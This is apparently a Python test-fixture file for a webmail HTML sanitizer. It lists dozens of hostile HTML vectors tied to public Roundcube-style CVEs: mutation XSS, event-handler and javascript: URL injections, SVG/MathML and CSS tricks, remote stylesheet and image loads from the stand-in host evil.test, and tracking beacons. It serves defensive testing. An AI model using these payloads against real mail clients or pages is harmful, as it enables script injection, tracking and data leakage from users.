# ruff: noqa: E501 - a vector stands on one line
"""Hostile HTML of our own: one vector or more for each way that webmail has been broken, as known from public reports.

Every remote name is ``evil.test``, every script calls ``alert``: nothing of either may be left.
"""

from typing import NamedTuple


class Vector(NamedTuple):
    name: str
    html: str


def _vectors(**groups: tuple[str, ...]) -> tuple[Vector, ...]:
    return tuple(
        Vector(f"{group}-{number}", html) for group, htmls in groups.items() for number, html in enumerate(htmls)
    )


VECTORS = _vectors(
    # Roundcube CVE-2020-12625, -15562, -16145: CDATA, xmlns, SVG and MathML.
    cdata=(
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
        "<math><![CDATA[x]]><img src=//evil.test/ onerror=alert(1)></math>",
    ),
    xmlns=(
        '<html xmlns="http://evil.test/" xmlns:x="javascript:alert(1)"><x:script>alert(1)</x:script>',
        '<div xmlns="x" onload="alert(1)"><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
        '<html xmlns="&quot;><img src=x onerror=alert(1)>">',
    ),
    foreign=(
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        '<math href="javascript:alert(1)">x</math>',
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    ),
    # CVE-2023-5631: a space inside the media type of a data URL; CVE-2024-37383, -68461: animate and its relatives.
    svg_use=(
        '<svg><use href="data:image/s vg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"></use></svg>',
        '<svg><use xlink:href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    ),
    animate=(
        '<svg><animate attributeName="href " values="javascript:alert(1)"/><a id=x><text>y</text></a></svg>',
        '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
        '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
        '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    ),
    # CVE-2025-68460, 2026-25916: pictures and sheets by way of SVG filters and links.
    fe_image=(
        '<svg><filter id=f><feImage href="http://evil.test/x"/></filter></svg>',
        '<svg width=9 height=9><image href="http://evil.test/x"/><image xlink:href="//evil.test/y"/></svg>',
        '<p style="filter:url(http://evil.test/f.svg#f)">x</p>',
    ),
    sheets=(
        '<link rel=stylesheet href="http://evil.test/x.css">',
        '<link rel="dns-prefetch preconnect preload prefetch icon" href="http://evil.test/" as=image>',
        '<style>@import "http://evil.test/x.css";</style>',
        "<style>@import url(//evil.test/x);</style>",
        "<style>@\\69mport url(//evil.test/x);</style>",
        "<style>@font-face{font-family:x;src:url(http://evil.test/f)}p{font-family:x}</style><p>x</p>",
        "<style>p{background:url(http://evil.test/x)}</style><p>x</p>",
        "<style>p{background:u\\72 l(http://evil.test/x)}</style><p>x</p>",
        "<style>p{list-style:url('http://evil.test/x')}p::after{content:url(http://evil.test/y)}</style><p>x</p>",
        "<style>@namespace url(http://evil.test/);@charset 'x';@document url(http://evil.test/){p{color:red}}</style>",
        "<style></style><img src=x onerror=alert(1)></style>",
        "<style><!--</style><img src=x onerror=alert(1)>--></style>",
        "<style>p[title='</style><img src=x onerror=alert(1)>']{color:red}</style>",
        "<style>@media screen{@import url(http://evil.test/x)}</style>",
        '<style type="text/css" media="url(http://evil.test/)">p{x:url(http://evil.test/)}</style>',
    ),
    # CVE-2021-46144, 2024-42010, 2026-35544, 2026-48846: CSS in attributes.
    css=(
        '<p style="background:url(javascript:alert(1))">x</p>',
        '<p style="background:\\75rl(http://evil.test/x)">x</p>',
        '<p style="background:url(http://evil.test/x">x</p>',
        '<p style="background-image:image-set(&quot;http://evil.test/x&quot; 1x)">x</p>',
        '<p style="background-image:-webkit-cross-fade(url(http://evil.test/x),url(//evil.test/y),50%)">x</p>',
        '<p style="position:fixed!important;top:0;left:0;width:100%;height:100%">x</p>',
        '<p style="position:fi\\78 ed">x</p>',
        '<p style="--x:url(http://evil.test/x);background:var(--x)">x</p>',
        '<p style="width:expression(alert(1))">x</p>',
        '<p style="behavior:url(http://evil.test/x.htc);-moz-binding:url(http://evil.test/x)">x</p>',
        '<p style="cursor:url(http://evil.test/c),auto;border-image:url(http://evil.test/b) 1">x</p>',
        '<p style="mask:url(http://evil.test/m);clip-path:url(http://evil.test/#c);shape-outside:url(//evil.test/)">x</p>',
        '<p style="content:url(http://evil.test/x);src:url(//evil.test/)">x</p>',
        '<p style="color:rgb(&#41;&#59;position:fixed&#59;background-image:url(//evil.test/x)">x</p>',
        '<p style="font-family:\'&quot;;background:url(//evil.test/);x:\'">x</p>',
        '<p style="color:red/*&quot;*/;background/**/:/**/url(//evil.test/x)">x</p>',
        '<p style="background:url(&#x22;//evil.test/x&#x22;)">x</p>',
        '<p style="background:url(/m/1/eml);list-style:url(/logout)">x</p>',
        '<p style="animation:x 1s;transition:all 1s;transform:scale(99);z-index:9999">x</p>',
    ),
    # CVE-2026-35542: the body's own background; old attributes that load.
    backgrounds=(
        '<body background="http://evil.test/x" onload=alert(1) onpageshow=alert(1)>x',
        '<table background="http://evil.test/x"><tr background="//evil.test/y"><td background="javascript:alert(1)">x',
        '<img dynsrc="http://evil.test/x" lowsrc="http://evil.test/y" longdesc="http://evil.test/z">',
        '<img srcset="http://evil.test/x 1x" sizes="1px" src="">',
        '<picture><source srcset="http://evil.test/x"><img src="http://evil.test/y"></picture>',
        '<input type=image src="http://evil.test/x"><video poster="http://evil.test/y" src=z></video>',
        '<audio src="http://evil.test/x" autoplay></audio><embed src="http://evil.test/y"><object data="http://evil.test/z">',
        '<isindex type=image src="http://evil.test/x"><bgsound src="http://evil.test/y"><frameset><frame src="//evil.test">',
    ),
    # CVE-2020-35730, 2023-43770, 2026-54433 have their plain-text twins in test_text.py.
    links=(
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java&#10;script:alert(1)">x</a>',
        '<a href="&#1;javascript:alert(1)">x</a>',
        '<a href="javascript&colon;alert(1)">x</a>',
        '<a href=" &#14;  javascript:alert(1);">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="/admin/" ping="http://evil.test/x">x</a>',
        '<a href="https://ok.test/" ping="http://evil.test/x" download onclick=alert(1)>x</a>',
        '<base href="http://evil.test/"><a href="x">x</a><img src=y>',
        '<area href="javascript:alert(1)"><map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m>',
        '<a href="http://evil.test@ok.test:80#@x/">x</a>',
        '<a href=\'https://x.test/"onmouseover="alert(1)\'>x</a>',
    ),
    # CVE-2024-11182 (noembed), 2024-45800 and all of mutation XSS.
    mutation=(
        "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
        "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
        "<title><p title='</title><img src=x onerror=alert(1)>'>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
        "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",
        "<select><style></select><img src=x onerror=alert(1)></style></select>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<svg><desc><style></desc><img src=x onerror=alert(1)></style>",
        "<a title='`\"><img src=x onerror=alert(1)>`'>x</a>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--!><img src=x onerror=alert(1)>",
        "<!----!><img src=x onerror=alert(1)>",
        "<?xml:namespace prefix=t ns=urn:x><img src=x onerror=alert(1)>?>",
        "<div><![if gte IE 5]><img src=x onerror=alert(1)><![endif]></div>",
        "<table><td><img src=x onerror=alert(1)><table><td></table>",
        "<p><table><p title='</table><img src=x onerror=alert(1)>'>",
        "<img src=x title='\u2028\"onerror=alert(1)//'>",
        "<im\x00g src=x on\x00error=alert(1)>",
    ),
    # CVE-2022-24682, 2024-27443, 2025-27915 (ontoggle), 2025-48700, 2025-66376; 2022-29360; 2021-26929, 2025-30349.
    handlers=(
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<details open=x/ontoggle=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        '<img src="x"onerror="alert(1)">',
        "<img src=`x`onerror=alert(1)>",
        "<body onload=alert(1)><body onfocus=alert(1) autofocus tabindex=1>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<input autofocus onfocus=alert(1)><button popovertarget=p>x</button><p id=p popover onbeforetoggle=alert(1)>y",
        "<p contenteditable autofocus onfocus=alert(1) accesskey=x tabindex=0 draggable=true ondragstart=alert(1)>x</p>",
        "<dialog open oncancel=alert(1)>x</dialog>",
        "<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</p>",
    ),
    frames=(
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<iframe src=//evil.test/></iframe><frame src=//evil.test/><portal src=//evil.test/></portal>",
        "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
        "<object type=text/html data=//evil.test/></object><applet code=x archive=//evil.test/></applet>",
        '<meta http-equiv=refresh content="0;url=http://evil.test/">',
        '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name=referrer content=unsafe-url>',
        '<form action=http://evil.test/ id=f><input type=submit></form><button form=f formaction=javascript:alert(1)>x',
    ),
    scripts=(
        "<script>alert(1)</script>",
        "<script src=//evil.test/x></script>",
        "<SCRIPT/x>alert(1)</SCRIPT >",
        "<script type=module>import '//evil.test/x'</script>",
        "<script type=importmap>{}</script><script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.test\"]}]}</script>",
        "<scr\nipt>alert(1)</scr\nipt><<script>alert(1)//<</script>",
        "\\u003cscript\\u003ealert(1)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ),
    # Names that would shadow ours or the page's.
    clobbering=(
        "<a id=location href=http://evil.test/>x</a><img name=cookie><form id=getElementById><input name=attributes></form>",
        "<p id=heron-mail class=toolbar data-heron=host>x</p>",
    ),
    # 1x1 pictures and their disguises; what is a tracker never loads, consent or not.
    beacons=(
        '<img src="http://evil.test/o.gif" width=1 height=1>',
        '<img src="http://evil.test/o.gif" style="width:1px;height:1px">',
        '<img src="http://evil.test/o.gif" width="0">',
        '<img src="http://evil.test/o.gif" width=100 height=100 style="width:1px!important;height:1px">',
    ),
)  # fmt: skip
